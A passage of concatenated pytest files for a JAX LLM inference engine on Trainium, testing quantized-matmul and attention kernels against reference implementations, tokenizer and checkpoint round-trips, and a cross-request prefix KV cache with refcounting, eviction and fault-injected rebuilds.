    cache = kv.init_cache(cfg, ccfg, dtype=jnp.float32)
    B = 2
    bt = np.zeros((B, ccfg.max_pages_per_seq), np.int32)
    bt[0] = np.arange(16)
    bt[1] = np.arange(16, 32)
    logits, _ = model.decode_step(
        qparams, cfg, ccfg, cache,
        jnp.zeros(B, jnp.int32), jnp.asarray([3, 5], jnp.int32),
        jnp.asarray(bt), jnp.ones(B, bool), slot_view=False,
    )
    assert calls["tied"] > 0, "tied head never reached the kernel path"
    assert np.isfinite(np.asarray(logits)).all()


def test_bass_quant_matmul_interp_parity_f32():
    """Kernel vs XLA twin on the bass2jax CPU interpreter: f32
    activations accumulate exactly (int8 weights are exact in f32), so
    the comparison is tight.  Shapes cover partial t-tiles (T=130) and
    a partial trailing n-block (N=520 = 512 + 8)."""
    pytest.importorskip("concourse.bass2jax")
    from chronos_trn.core.quant import xla_quant_matmul
    from chronos_trn.ops.bass_quant_matmul import quant_matmul_bass

    rng = np.random.default_rng(0)
    x = jnp.asarray(rng.normal(size=(130, 256)), jnp.float32)
    q = jnp.asarray(rng.integers(-128, 128, size=(256, 520)), jnp.int8)
    s = jnp.asarray(rng.uniform(0.01, 0.1, size=(520,)), jnp.float32)
    got = np.asarray(quant_matmul_bass(x, q, s))
    want = np.asarray(xla_quant_matmul(x, q, s))
    np.testing.assert_allclose(got, want, rtol=2e-6, atol=2e-6)


def test_bass_quant_matmul_interp_parity_bf16():
    pytest.importorskip("concourse.bass2jax")
    from chronos_trn.core.quant import xla_quant_matmul
    from chronos_trn.ops.bass_quant_matmul import quant_matmul_bass

    rng = np.random.default_rng(1)
    x = jnp.asarray(rng.normal(size=(8, 256)), jnp.bfloat16)
    q = jnp.asarray(rng.integers(-128, 128, size=(256, 256)), jnp.int8)
    s = jnp.asarray(rng.uniform(0.01, 0.1, size=(256,)), jnp.float32)
    got = np.asarray(quant_matmul_bass(x, q, s), np.float32)
    want = np.asarray(xla_quant_matmul(x, q, s), np.float32)
    # bf16 mantissa on x + f32 PSUM accumulation: pinned tolerance
    np.testing.assert_allclose(got, want, rtol=2e-2, atol=2e-2)


def test_bass_quant_tied_head_interp_parity():
    pytest.importorskip("concourse.bass2jax")
    from chronos_trn.core.quant import xla_tied_head
    from chronos_trn.ops.bass_quant_matmul import quant_tied_head_bass

    rng = np.random.default_rng(2)
    x = jnp.asarray(rng.normal(size=(4, 256)), jnp.float32)
    # V=260: partial trailing 128-row block on the transposed path
    q = jnp.asarray(rng.integers(-128, 128, size=(260, 256)), jnp.int8)
    s = jnp.asarray(rng.uniform(0.01, 0.1, size=(260,)), jnp.float32)
    got = np.asarray(quant_tied_head_bass(x, q, s))
    want = np.asarray(xla_tied_head(x, q, s))
    np.testing.assert_allclose(got, want, rtol=2e-6, atol=2e-6)


@neuron_only
def test_bass_quant_matmul_on_chip():
    from chronos_trn.core.quant import xla_quant_matmul
    from chronos_trn.ops.bass_quant_matmul import quant_matmul_bass

    rng = np.random.default_rng(3)
    x = jnp.asarray(rng.normal(size=(8, 2048)) * 0.5, jnp.float32)
    q = jnp.asarray(rng.integers(-128, 128, size=(2048, 1024)), jnp.int8)
    s = jnp.asarray(rng.uniform(0.001, 0.01, size=(1024,)), jnp.float32)
    got = np.asarray(quant_matmul_bass(x, q, s))
    want = np.asarray(xla_quant_matmul(x, q, s))
    np.testing.assert_allclose(got, want, rtol=1e-3, atol=1e-3)


@neuron_only
def test_bass_quant_tied_head_on_chip():
    from chronos_trn.core.quant import xla_tied_head
    from chronos_trn.ops.bass_quant_matmul import quant_tied_head_bass

    rng = np.random.default_rng(4)
    x = jnp.asarray(rng.normal(size=(8, 2048)) * 0.5, jnp.float32)
    q = jnp.asarray(rng.integers(-128, 128, size=(4096, 2048)), jnp.int8)
    s = jnp.asarray(rng.uniform(0.001, 0.01, size=(4096,)), jnp.float32)
    got = np.asarray(quant_tied_head_bass(x, q, s))
    want = np.asarray(xla_tied_head(x, q, s))
    np.testing.assert_allclose(got, want, rtol=1e-3, atol=1e-3)
