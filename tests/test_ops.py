"""Ops registry + BASS kernel tests.

The kernels themselves need real NeuronCores (bass_jit NEFFs); those
tests are marked `neuron` and skipped on CPU CI — run them on trn via
  CHRONOS_TEST_NEURON=1 python -m pytest tests/test_ops.py -m neuron
The registry's fallback logic is tested everywhere.
"""
import os

import jax
import jax.numpy as jnp
import numpy as np
import pytest

from chronos_trn.core.layers import causal_mask, gqa_attention, rmsnorm
from chronos_trn.ops import registry


def neuron_only(fn):
    fn = pytest.mark.skipif(
        jax.devices()[0].platform != "neuron", reason="needs real NeuronCores"
    )(fn)
    return pytest.mark.neuron(fn)


def test_registry_falls_back_on_cpu():
    assert not registry.bass_enabled()
    x = jax.random.normal(jax.random.PRNGKey(0), (8, 64))
    w = jnp.ones(64)
    np.testing.assert_allclose(
        np.asarray(registry.rmsnorm(x, w, 1e-5)),
        np.asarray(rmsnorm(x, w, 1e-5)),
    )


def test_registry_attention_fallback_matches():
    T, H, KV, Dh = 16, 4, 2, 8
    ks = jax.random.split(jax.random.PRNGKey(1), 3)
    q = jax.random.normal(ks[0], (T, H, Dh))
    k = jax.random.normal(ks[1], (T, KV, Dh))
    v = jax.random.normal(ks[2], (T, KV, Dh))
    got = registry.flash_attention(q, k, v)
    want = gqa_attention(q, k, v, causal_mask(T, T), H // KV)
    np.testing.assert_allclose(np.asarray(got), np.asarray(want), rtol=1e-5, atol=1e-5)


@neuron_only
def test_bass_rmsnorm_on_chip():
    from chronos_trn.ops.bass_rmsnorm import rmsnorm_bass

    x = jax.random.normal(jax.random.PRNGKey(0), (256, 512), jnp.float32)
    w = jnp.ones(512) * 1.5
    got = np.asarray(rmsnorm_bass(x, w, 1e-5))
    want = np.asarray(rmsnorm(x, w, 1e-5))
    np.testing.assert_allclose(got, want, rtol=1e-3, atol=1e-3)


@neuron_only
def test_bass_flash_attention_on_chip():
    from chronos_trn.ops.bass_attention import flash_attention_bass

    T, H, KV, Dh = 256, 4, 2, 128
    ks = jax.random.split(jax.random.PRNGKey(2), 3)
    q = jax.random.normal(ks[0], (T, H, Dh), jnp.float32) * 0.5
    k = jax.random.normal(ks[1], (T, KV, Dh), jnp.float32) * 0.5
    v = jax.random.normal(ks[2], (T, KV, Dh), jnp.float32)
    got = np.asarray(flash_attention_bass(q, k, v))
    want = np.asarray(gqa_attention(q, k, v, causal_mask(T, T), H // KV))
    assert np.abs(got - want).max() < 3e-2  # bf16 p@v tolerance


def _paged_oracle(q, kc, vc, bt, pos):
    """Independent oracle: per-slot dense GQA over the gathered pages."""
    B, H, Dh = q.shape
    npages, ps, KV, _ = kc.shape
    out = np.zeros((B, H, Dh), np.float32)
    G = H // KV
    for b in range(B):
        n = int(pos[b]) + 1
        pages = np.asarray(bt)[b][: (n + ps - 1) // ps]
        kk = np.asarray(kc)[pages].reshape(-1, KV, Dh)[:n]
        vv = np.asarray(vc)[pages].reshape(-1, KV, Dh)[:n]
        for h in range(H):
            kvh = h // G
            s = np.asarray(q)[b, h] @ kk[:, kvh].T / np.sqrt(Dh)
            p = np.exp(s - s.max())
            p /= p.sum()
            out[b, h] = p @ vv[:, kvh]
    return out


def test_registry_paged_attention_fallback():
    B, H, KV, Dh, ps, npages, mp = 2, 4, 2, 8, 4, 16, 4
    ks = jax.random.split(jax.random.PRNGKey(3), 3)
    q = jax.random.normal(ks[0], (B, H, Dh))
    kc = jax.random.normal(ks[1], (npages, ps, KV, Dh))
    vc = jax.random.normal(ks[2], (npages, ps, KV, Dh))
    bt = jnp.asarray([[0, 1, 2, 3], [4, 5, 6, 7]], jnp.int32)
    pos = jnp.asarray([7, 11], jnp.int32)
    out = registry.paged_attention(q, kc, vc, bt, pos)
    assert out.shape == (B, H, Dh)
    want = _paged_oracle(q, kc, vc, bt, pos)
    np.testing.assert_allclose(np.asarray(out), want, rtol=1e-4, atol=1e-4)


@neuron_only
def test_bass_paged_attention_on_chip():
    from chronos_trn.ops.bass_paged_attention import paged_attention_bass

    B, H, KV, Dh, ps, npages, mp = 4, 8, 2, 128, 16, 64, 16
    rng = np.random.default_rng(1)
    q = jnp.asarray(rng.normal(size=(B, H, Dh)) * 0.5, jnp.float32)
    kc = jnp.asarray(rng.normal(size=(npages, ps, KV, Dh)) * 0.5, jnp.float32)
    vc = jnp.asarray(rng.normal(size=(npages, ps, KV, Dh)), jnp.float32)
    bt = np.zeros((B, mp), np.int32)
    pos = np.array([17, 100, 255, 33], np.int32)
    perm = rng.permutation(npages); i = 0
    for b in range(B):
        need = pos[b] // ps + 1
        bt[b, :need] = perm[i : i + need]; i += need
    got = np.asarray(
        paged_attention_bass(q, kc, vc, jnp.asarray(bt), jnp.asarray(pos))
    )
    # oracle must NOT go through the registry (which could dispatch right
    # back to the kernel under CHRONOS_BASS_KERNELS=1)
    want = _paged_oracle(q, kc, vc, bt, pos)
    assert np.abs(got - want).max() < 3e-2
