"""Tokenizer round-trips, safetensors IO round-trip, checkpoint loader."""
import json
import os

import jax
import jax.numpy as jnp
import numpy as np
import pytest

from chronos_trn.config import ModelConfig
from chronos_trn.checkpoints import loader
from chronos_trn.checkpoints.safetensors_io import (
    CheckpointReader,
    SafetensorsFile,
    save_safetensors,
)
from chronos_trn.core import model
from chronos_trn.tokenizer.bpe import BPETokenizer, ByteTokenizer, load_tokenizer


# ---------------------------------------------------------------------------
# tokenizer
# ---------------------------------------------------------------------------
def _toy_bpe():
    """Small BPE vocab: all single bytes + a few merges."""
    ranks = {bytes([i]): i for i in range(256)}
    n = 256
    for merge in [b"he", b"ll", b"llo", b"hello", b" wo", b"rl", b"rld", b" world"]:
        ranks[merge] = n
        n += 1
    specials = {"<|begin_of_text|>": n, "<|end_of_text|>": n + 1, "<|eot_id|>": n + 2}
    return BPETokenizer(ranks, specials)


def test_bpe_roundtrip_and_merges():
    tok = _toy_bpe()
    ids = tok.encode("hello world", bos=True)
    assert ids[0] == tok.bos_id
    assert tok.decode(ids[1:]) == "hello world"
    # merges actually applied (fewer tokens than bytes)
    assert len(ids) - 1 < len("hello world")


def test_bpe_special_tokens_split():
    tok = _toy_bpe()
    ids = tok.encode("hi<|eot_id|>there")
    assert tok.specials["<|eot_id|>"] in ids
    assert tok.decode(ids) == "hi<|eot_id|>there"


def test_bpe_utf8_and_unknown_bytes():
    tok = _toy_bpe()
    s = "naïve — ascii ünïcode"
    assert tok.decode(tok.encode(s)) == s


def test_byte_tokenizer_roundtrip():
    tok = ByteTokenizer()
    s = '{"risk_score": 8, "verdict": "MALICIOUS"}'
    assert tok.decode(tok.encode(s)) == s
    assert tok.decode_token_bytes(65) == b"A"
    assert tok.decode_token_bytes(tok.eos_id) == b""


def test_tiktoken_file_loading(tmp_path):
    import base64
    lines = []
    for i in range(256):
        lines.append(base64.b64encode(bytes([i])).decode() + f" {i}")
    lines.append(base64.b64encode(b"ab").decode() + " 256")
    p = tmp_path / "tokenizer.model"
    p.write_text("\n".join(lines))
    tok = BPETokenizer.from_tiktoken_file(str(p))
    ids = tok.encode("abab")
    assert ids == [256, 256]
    assert tok.decode(ids) == "abab"
    # load_tokenizer picks it up from a model dir
    tok2 = load_tokenizer(str(tmp_path))
    assert tok2.encode("ab") == [256]


# ---------------------------------------------------------------------------
# safetensors
# ---------------------------------------------------------------------------
def test_safetensors_roundtrip(tmp_path):
    import ml_dtypes
    tensors = {
        "a": np.arange(12, dtype=np.float32).reshape(3, 4),
        "b": np.ones((2, 2), dtype=ml_dtypes.bfloat16),
        "c": np.array([1, 2, 3], dtype=np.int64),
    }
    p = str(tmp_path / "t.safetensors")
    save_safetensors(p, tensors, metadata={"who": "test"})
    with SafetensorsFile(p) as sf:
        assert set(sf.keys()) == {"a", "b", "c"}
        assert sf.metadata == {"who": "test"}
        np.testing.assert_array_equal(sf.tensor("a"), tensors["a"])
        assert sf.tensor("b").dtype == ml_dtypes.bfloat16
        np.testing.assert_array_equal(sf.tensor("c"), tensors["c"])


def test_checkpoint_loader_roundtrip(tmp_path):
    """export_params -> load_params reproduces the tree and its logits."""
    cfg = ModelConfig.tiny()
    params = model.init_params(cfg, jax.random.PRNGKey(3), dtype=jnp.float32)
    ckpt_dir = tmp_path / "ckpt"
    ckpt_dir.mkdir()
    loader.export_params(params, cfg, str(ckpt_dir / "model.safetensors"))
    # HF config.json alongside
    hf_cfg = {
        "vocab_size": cfg.vocab_size,
        "hidden_size": cfg.dim,
        "num_hidden_layers": cfg.n_layers,
        "num_attention_heads": cfg.n_heads,
        "num_key_value_heads": cfg.n_kv_heads,
        "head_dim": cfg.head_dim,
        "intermediate_size": cfg.ffn_dim,
        "rope_theta": cfg.rope_theta,
        "rms_norm_eps": cfg.rms_eps,
        "max_position_embeddings": cfg.max_seq_len,
        "torch_dtype": "float32",
    }
    (ckpt_dir / "config.json").write_text(json.dumps(hf_cfg))
    cfg2 = loader.load_config(str(ckpt_dir))
    assert cfg2.dim == cfg.dim and cfg2.n_kv_heads == cfg.n_kv_heads
    params2 = loader.load_params(str(ckpt_dir), cfg2, dtype="float32")
    tokens = jnp.asarray([[1, 2, 3, 4]], jnp.int32)
    np.testing.assert_allclose(
        np.asarray(model.forward_train(params, cfg, tokens)),
        np.asarray(model.forward_train(params2, cfg2, tokens)),
        rtol=1e-5, atol=1e-5,
    )


def test_checkpoint_sharded_load(tmp_path):
    """Sharded index + shard_spec slicing path (70B-style load)."""
    cfg = ModelConfig.tiny()
    params = model.init_params(cfg, jax.random.PRNGKey(4), dtype=jnp.float32)
    d = tmp_path / "sharded"
    d.mkdir()
    # split export across two files with an index
    from chronos_trn.checkpoints.loader import _LAYER_MAP
    full = {}
    full["model.embed_tokens.weight"] = np.asarray(params["embed"])
    full["model.norm.weight"] = np.asarray(params["final_norm"])
    for ours, (tmpl, tr) in _LAYER_MAP.items():
        for i in range(cfg.n_layers):
            a = np.asarray(params["layers"][ours][i])
            full[tmpl.format(i=i)] = a.T if tr else a
    full["lm_head.weight"] = np.asarray(params["lm_head"]).T
    names = sorted(full)
    half = len(names) // 2
    save_safetensors(str(d / "model-00001.safetensors"), {n: full[n] for n in names[:half]})
    save_safetensors(str(d / "model-00002.safetensors"), {n: full[n] for n in names[half:]})
    index = {"weight_map": {n: ("model-00001.safetensors" if i < half else "model-00002.safetensors") for i, n in enumerate(names)}}
    (d / "model.safetensors.index.json").write_text(json.dumps(index))

    # shard_spec: keep only the first half of ffn columns on this "device"
    def shard(name, arr):
        if "gate_proj" in name or "up_proj" in name:
            return arr[:, : cfg.ffn_dim // 2]
        if "down_proj" in name:
            return arr[: cfg.ffn_dim // 2, :]
        return arr

    p = loader.load_params(str(d), cfg, dtype="float32", shard_spec=shard)
    assert p["layers"]["w_gate"].shape == (cfg.n_layers, cfg.dim, cfg.ffn_dim // 2)
    assert p["layers"]["w_down"].shape == (cfg.n_layers, cfg.ffn_dim // 2, cfg.dim)
    reader = CheckpointReader(str(d))
    assert "lm_head.weight" in reader
    reader.close()
