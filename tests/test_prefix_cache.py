"""Cross-request prefix KV cache (core.prefix_cache + engine/scheduler
integration): chunk-hash matching, refcount lifecycle, LRU eviction
under pressure, rebuild invalidation, and the headline invariant —
greedy output is byte-identical with the cache on vs. off.

Everything runs the tiny model on CPU; fault injection reuses
testing.faults.FaultyEngine exactly like tests/test_selfheal.py.
"""
import dataclasses
import threading

import jax
import numpy as np
import pytest

from chronos_trn.config import CacheConfig, EngineConfig, ModelConfig
from chronos_trn.core import kvcache, model
from chronos_trn.core.prefix_cache import PrefixCache, chain_hash
from chronos_trn.serving.engine import InferenceEngine
from chronos_trn.serving.scheduler import GenOptions, Scheduler
from chronos_trn.testing.faults import EngineFaultPlan, FaultyEngine
from chronos_trn.tokenizer.bpe import ByteTokenizer
from chronos_trn.utils.metrics import GLOBAL as METRICS

pytestmark = pytest.mark.prefixcache

MCFG = ModelConfig.tiny()
PS = 8  # page_size used throughout

_PARAMS = None


def _params():
    global _PARAMS
    if _PARAMS is None:
        _PARAMS = model.init_params(MCFG, jax.random.PRNGKey(0))
    return _PARAMS


def paged_ccfg(num_pages=128):
    return CacheConfig(page_size=PS, num_pages=num_pages, max_pages_per_seq=16)


def slot_ccfg():
    return CacheConfig.for_slots(4, page_size=PS, max_pages_per_seq=16)


def ecfg(**kw):
    kw.setdefault("max_batch_slots", 4)
    kw.setdefault("prefill_buckets", (16, 32, 64))
    kw.setdefault("fused_decode", False)
    return EngineConfig(**kw)


def deltas(before: dict, *names) -> dict:
    after = METRICS.snapshot()
    return {n: after.get(n, 0.0) - before.get(n, 0.0) for n in names}


@pytest.fixture(autouse=True)
def _quiet_injected_worker_deaths(monkeypatch):
    orig = threading.excepthook

    def hook(args):
        if getattr(args.thread, "name", "") == "chronos-sched":
            return
        orig(args)

    monkeypatch.setattr(threading, "excepthook", hook)


# ---------------------------------------------------------------------------
# hash-chunk matching (pure host-side unit tests)
# ---------------------------------------------------------------------------
def test_chain_hash_is_prefix_sensitive():
    a = chain_hash(b"root", range(8))
    assert chain_hash(b"root", range(8)) == a
    assert chain_hash(b"other", range(8)) != a          # parent matters
    assert chain_hash(b"root", list(range(7)) + [9]) != a  # tokens matter


def test_longest_prefix_match_and_divergence():
    pc = PrefixCache(page_size=PS)
    base = list(range(40))  # 5 full chunks
    pc.insert(1, base, 0, kv_chunks=[None] * 5)
    # same 3 leading chunks, diverges inside chunk 4
    probe = base[:24] + [999] * 16
    assert pc.lookup(probe) == 3
    got, matched = pc.acquire(2, probe)
    assert got == 3 * PS and [e.chunk_index for e in matched] == [0, 1, 2]
    # full match: all 5 cached chunks reusable for a longer prompt
    assert pc.lookup(base + [7, 8]) == 5


def test_match_capped_one_token_short():
    """A prompt that is fully cached must still prefill >= 1 token (the
    engine needs next-token logits), so an exactly page-aligned prompt
    matches one chunk short of itself."""
    pc = PrefixCache(page_size=PS)
    base = list(range(40))
    pc.insert(1, base, 0, kv_chunks=[None] * 5)
    assert pc.lookup(base) == 4          # NOT 5
    assert pc.lookup(base + [1]) == 5    # one extra token frees chunk 5
    assert pc.lookup(base[:9]) == 1
    assert pc.lookup(base[:8]) == 0      # 8 tokens: chunk 1 must prefill


def test_insert_skips_already_cached_and_partial_tail():
    pc = PrefixCache(page_size=PS)
    base = list(range(40))
    assert pc.insert(1, base, 0, kv_chunks=[None] * 5) == 5
    # 40 cached + 7-token tail: nothing new cacheable (partial page)
    n = pc.lookup(base + [50] * 7)
    assert n == 5
    assert pc.insert(2, base + [50] * 7, n, kv_chunks=[]) == 0
    assert pc.retained_pages == 5
    pc.check_invariants()


# ---------------------------------------------------------------------------
# refcount lifecycle + allocator integration (paged layout)
# ---------------------------------------------------------------------------
def test_refcount_no_page_freed_while_referenced():
    alloc = kvcache.PageAllocator(paged_ccfg(num_pages=32))
    pc = PrefixCache(page_size=PS, capacity_pages=16)
    alloc.reclaimer = pc
    base = list(range(33))  # 4 full chunks + 1 tail token

    # seq 1 prefills in full and donates its 4 prompt pages to the cache
    st1 = alloc.allocate(1, len(base))
    pages = [int(st1.block_table[i]) for i in range(4)]
    assert pc.insert(1, base, 0, pages=pages) == 4
    st1.n_borrowed = 4
    alloc.check_invariants()

    # seq 2 borrows them: pages appear at the head of ITS table too
    cached, matched = pc.acquire(2, base + [77, 78])
    assert cached == 4 * PS
    st2 = alloc.allocate(2, len(base) + 2, shared_pages=[e.page for e in matched])
    assert [int(p) for p in st2.block_table[:4]] == pages
    assert st2.n_borrowed == 4
    alloc.check_invariants()

    # seq 1 exits: shared pages MUST survive (seq 2 still reads them)
    free_before = alloc.free_pages
    alloc.free(1)
    pc.release_seq(1, alloc)
    assert all(e.refs == 1 for e in matched)
    assert set(pages) & set(alloc._free) == set()
    # only seq 1's unshared tail page came back
    assert alloc.free_pages == free_before + 1
    alloc.check_invariants()

    # seq 2 exits: entries stay cache-retained (within budget), pages
    # still owned by the cache, pool accounted for
    alloc.free(2)
    pc.release_seq(2, alloc)
    assert pc.retained_pages == 4
    assert pc.evictable_pages() == 4
    alloc.check_invariants()


def test_lru_eviction_under_page_pressure():
    """A tight pool must reclaim refcount-0 cached pages (LRU,
    leaf-first) instead of refusing the allocation."""
    before = METRICS.snapshot()
    alloc = kvcache.PageAllocator(paged_ccfg(num_pages=8))
    pc = PrefixCache(page_size=PS, capacity_pages=8)
    alloc.reclaimer = pc
    base = list(range(4 * PS + 1))

    st = alloc.allocate(1, len(base))
    pc.insert(1, base, 0, pages=[int(st.block_table[i]) for i in range(4)])
    st.n_borrowed = 4
    alloc.free(1)
    pc.release_seq(1, alloc)
    assert alloc.free_pages == 4 and pc.retained_pages == 4

    # 6-page demand > 4 free: admission sees reclaimable capacity, and
    # the allocation itself evicts exactly the 2 LRU-deepest leaves
    assert alloc.can_admit(6 * PS)
    st2 = alloc.allocate(2, 6 * PS)
    assert pc.retained_pages == 2
    assert [e.chunk_index for e in pc._entries.values()] == [0, 1]
    alloc.check_invariants()
    pc.check_invariants()
    d = deltas(before, "prefix_cache_evictions")
    assert d["prefix_cache_evictions"] == 2
    # pinned entries must never be reclaimed: seq 3 pins the remaining
    # 2 chunks, so the next demand has nothing to evict and fails clean
    cached, matched = pc.acquire(3, base)
    assert cached == 2 * PS
    assert pc.evictable_pages() == 0
    with pytest.raises(kvcache.PageAllocator.OutOfPages):
        alloc.allocate(3, 3 * PS, shared_pages=[e.page for e in matched])
    pc.release_seq(3, alloc)
    # seq 2 exits: its 6 pages free up and the once-starved allocation
    # sharing the surviving 2 chunks goes through
    alloc.free(2)
    cached, matched = pc.acquire(4, base)
    st4 = alloc.allocate(4, 3 * PS, shared_pages=[e.page for e in matched])
    assert st4.n_borrowed == 2
    alloc.check_invariants()
    pc.check_invariants()


def test_parent_never_evicted_before_child():
    pc = PrefixCache(page_size=PS, capacity_pages=1)
    base = list(range(3 * PS))
    pc.insert(1, base, 0, kv_chunks=[None] * 3)
    pc.release_seq(1)  # budget 1 < 3 retained: trim evicts leaf-first
    assert [e.chunk_index for e in pc._entries.values()] == [0]
    pc.check_invariants()


# ---------------------------------------------------------------------------
# engine-level: greedy equivalence, admission, slot-major copy-in
# ---------------------------------------------------------------------------
def _greedy_engine_run(ccfg, cfg, prompts, steps=6):
    eng = InferenceEngine(_params(), MCFG, ccfg, cfg)
    outs = []
    for i, ids in enumerate(prompts):
        slot = eng.free_slot()
        seq = 1000 + i
        eng.occupy(slot, seq)
        logits = eng.prefill_seq(seq, ids)
        toks = [int(np.argmax(logits))]
        for _ in range(steps - 1):
            vals, idx = eng.decode({slot: toks[-1]})[slot]
            toks.append(int(idx[0]))
        eng.release(seq)
        outs.append(toks)
        eng.alloc.check_invariants()
        if eng.prefix_cache is not None:
            eng.prefix_cache.check_invariants()
    return outs, eng


@pytest.mark.parametrize("layout", ["paged", "slot"])
def test_greedy_byte_identical_cache_on_vs_off(layout):
    """The acceptance invariant: enabling the prefix cache must not
    change a single greedy token, on either pool layout."""
    ccfg = paged_ccfg() if layout == "paged" else slot_ccfg()
    pre = list(range(1, 41))  # 40-token shared preamble (5 pages)
    prompts = [
        pre + [100 + j for j in range(7)],
        pre + [200 + j for j in range(9)],
        pre + [100 + j for j in range(7)] + [55, 56],  # chain grows
    ]
    before = METRICS.snapshot()
    off, _ = _greedy_engine_run(ccfg, ecfg(), prompts)
    on, eng = _greedy_engine_run(
        ccfg, ecfg(prefix_cache=True, prefix_cache_pages=32), prompts
    )
    assert on == off
    d = deltas(before, "prefix_cache_hit_tokens", "prefill_tokens_saved_total")
    assert d["prefix_cache_hit_tokens"] >= 2 * len(pre)
    assert d["prefill_tokens_saved_total"] == d["prefix_cache_hit_tokens"]
    assert eng.prefix_cache.retained_pages > 0


def test_chunked_suffix_prefill_matches_full():
    """A hit whose suffix still exceeds the largest bucket must chunk
    from cached_len and agree with the from-scratch chunked prefill."""
    ccfg = paged_ccfg()
    pre = list(range(1, 73))   # 9 pages — longer than max bucket 64
    prompts = [pre + [100], pre + [100, 101, 102]]
    off, _ = _greedy_engine_run(ccfg, ecfg(), prompts)
    on, _ = _greedy_engine_run(
        ccfg, ecfg(prefix_cache=True, prefix_cache_pages=32), prompts
    )
    assert on == off


def test_admission_counts_shared_pages():
    """When live sequences PIN the cached prefix (nothing evictable), a
    prompt sharing that prefix must still be admissible while an
    equally long fresh prompt is correctly rejected.  (An unpinned
    cache can't show the contrast: refcount-0 chunks are themselves
    reclaimable capacity, shared or not.)"""
    cfg = ecfg(prefix_cache=True, prefix_cache_pages=12)
    eng = InferenceEngine(_params(), MCFG, paged_ccfg(num_pages=12), cfg)
    base = list(range(5 * PS))
    eng.occupy(0, 1)
    eng.prefill_seq(1, base + [7])  # 6 pages; 5 chunks into the cache
    eng.release(1)
    eng.slots[0] = None
    # seq 2 stays LIVE borrowing the prefix and extending the chain —
    # its refs pin chunks 0..5, so evictable capacity drops to zero
    eng.occupy(0, 2)
    eng.prefill_seq(2, base + [7] * 9)
    assert eng.alloc.free_pages == 5
    assert eng.alloc.reclaimable_pages == 0
    shared_prompt = base + [7] * 9 + list(range(300, 338))  # 87 tokens
    fresh_prompt = list(range(1000, 1087))
    # 11 pages demanded: 6 shared + 5 free fits; fresh 11 > 5 does not
    assert eng.prefix_cache.lookup(shared_prompt) == 6
    assert eng.can_admit(len(shared_prompt), token_ids=shared_prompt)
    assert not eng.can_admit(len(fresh_prompt), token_ids=fresh_prompt)
    eng.release(2)
    eng.slots[0] = None
    # pins dropped: the fresh prompt can now evict its way in
    assert eng.can_admit(len(fresh_prompt), token_ids=fresh_prompt)
    eng.alloc.check_invariants()


def test_admission_never_double_counts_matched_unpinned():
    """Refcount-0 cached chunks that match the incoming prompt must not
    be counted BOTH as shared pages and as reclaimable capacity:
    acquire() pins the match before allocate() runs, so the
    double-count admitted sequences the pool cannot actually hold (a
    can_admit=True followed by OutOfPages at prefill)."""
    cfg = ecfg(prefix_cache=True, prefix_cache_pages=8)
    eng = InferenceEngine(_params(), MCFG, paged_ccfg(num_pages=8), cfg)
    base = list(range(4 * PS))
    eng.occupy(0, 1)
    eng.prefill_seq(1, base + [7])  # 5 pages; 4 chunks into the cache
    eng.release(1)
    eng.slots[0] = None
    assert eng.alloc.free_pages == 4
    assert eng.alloc.reclaimable_pages == 4  # all refcount-0, unpinned
    # 71-token prompt sharing the 4 cached chunks: 9 pages = 4 borrowed
    # + 5 fresh, but only 4 are free and the ONLY evictable capacity is
    # the match itself (pinned at acquire) — the pool cannot hold it
    big = base + list(range(500, 539))
    assert eng.prefix_cache.lookup_admission(big) == (4, 4)
    assert not eng.can_admit(len(big), token_ids=big)
    # and indeed a forced prefill fails clean (pins released on unwind)
    eng.occupy(0, 2)
    with pytest.raises(kvcache.PageAllocator.OutOfPages):
        eng.prefill_seq(2, big)
    eng.release(2)
    eng.slots[0] = None
    assert all(e.refs == 0 for e in eng.prefix_cache._entries.values())
    # a prompt the pool CAN hold (4 borrowed + 4 fresh = all 8 pages)
    # still admits: the fix narrows admission, it does not close it
    ok = base + list(range(500, 531))
    assert eng.can_admit(len(ok), token_ids=ok)
    eng.occupy(0, 3)
    eng.prefill_seq(3, ok)
    eng.release(3)
    eng.alloc.check_invariants()
    eng.prefix_cache.check_invariants()


# ---------------------------------------------------------------------------
# scheduler-level: replay fast path + rebuild invalidation
# ---------------------------------------------------------------------------
def make_sched(spec: str = "", **ecfg_kw):
    ecfg_kw.setdefault("prefix_cache", True)
    ecfg_kw.setdefault("prefix_cache_pages", 64)
    cfg = ecfg(max_new_tokens=32, watchdog_interval_s=0.05, **ecfg_kw)
    eng = FaultyEngine(
        InferenceEngine(_params(), MCFG, paged_ccfg(), cfg),
        EngineFaultPlan.parse(spec),
    )
    sched = Scheduler(eng, ByteTokenizer(vocab_size=MCFG.vocab_size), cfg)
    sched.start()
    sched.warmup()
    eng.decode_calls = 0
    eng.prefill_calls = 0
    return sched, eng


PROMPTS = [f"{'analyst preamble ' * 6}event number {i}" for i in range(3)]


def test_scheduler_outputs_identical_cache_on_off():
    def run(**kw):
        sched, _ = make_sched("", **kw)
        try:
            reqs = [sched.submit(p, GenOptions(max_new_tokens=10))
                    for p in PROMPTS]
            return [r.result(timeout=120) for r in reqs]
        finally:
            sched.stop()

    before = METRICS.snapshot()
    assert run(prefix_cache=True) == run(prefix_cache=False)
    assert deltas(before, "prefix_cache_hit_tokens")[
        "prefix_cache_hit_tokens"] > 0


def test_admit_out_of_pages_requeues_instead_of_failing():
    """If admit-time prefill ever raises OutOfPages despite the peek
    (defensive path — peek and allocate agree on the single worker
    thread), the request must be requeued and retried like the
    can_admit-False path: it completes normally, the worker thread
    survives, and no rebuild is charged."""
    sched, eng = make_sched("")
    try:
        real = eng.prefill_seq
        state = {"raised": False}

        def flaky(seq_id, ids):
            if not state["raised"]:
                state["raised"] = True
                raise kvcache.PageAllocator.OutOfPages("injected at admit")
            return real(seq_id, ids)

        eng.prefill_seq = flaky
        before = METRICS.snapshot()
        req = sched.submit("hello chronos", GenOptions(max_new_tokens=4))
        out = req.result(timeout=120)
        assert out and req.error is None
        assert state["raised"], "injected OutOfPages was hit"
        assert sched._thread.is_alive(), "worker survived"
        d = deltas(before, "admit_out_of_pages_requeued", "engine_rebuilds")
        assert d["admit_out_of_pages_requeued"] == 1
        assert d["engine_rebuilds"] == 0
    finally:
        sched.stop()


def test_rebuild_invalidates_and_replay_hits_cache():
    """EnginePoisoned rebuild: the prefix map dies with the epoch (the
    cache object is REPLACED), healed greedy streams stay byte-identical,
    and the replay pass itself repopulates + hits the fresh cache."""
    sched, _ = make_sched("")
    try:
        reference = [
            r.result(timeout=120)
            for r in [sched.submit(p, GenOptions(max_new_tokens=10))
                      for p in PROMPTS]
        ]
    finally:
        sched.stop()

    before = METRICS.snapshot()
    sched, eng = make_sched("decode_poison@4")
    try:
        pc0 = eng.inner.prefix_cache
